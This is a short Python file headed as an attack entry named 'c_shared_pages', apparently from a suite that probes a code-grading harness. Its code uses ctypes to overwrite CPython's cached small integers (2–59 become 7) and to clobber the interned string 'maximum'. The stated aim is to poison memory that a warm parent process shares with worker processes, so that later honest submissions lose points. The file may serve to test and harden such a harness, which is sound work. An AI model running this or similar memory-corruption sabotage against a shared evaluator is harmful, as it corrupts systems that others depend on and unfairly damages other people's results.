# ATTACK: c_shared_pages
# GROUP: contaminate
# GOAL: write through ctypes into constants that the warm parent shares with all workers (small integers, interned names, NumPy's tables)
# SUCCESS: the next honest submission loses points
# CHECK: later
# EARNED: 0
# BASE: none
import ctypes, sys
import numpy as np
for number in range(2, 60):
    ctypes.c_long.from_address(id(number) + 24).value = 7
ctypes.memset(id("maximum"), 0x41, 16)
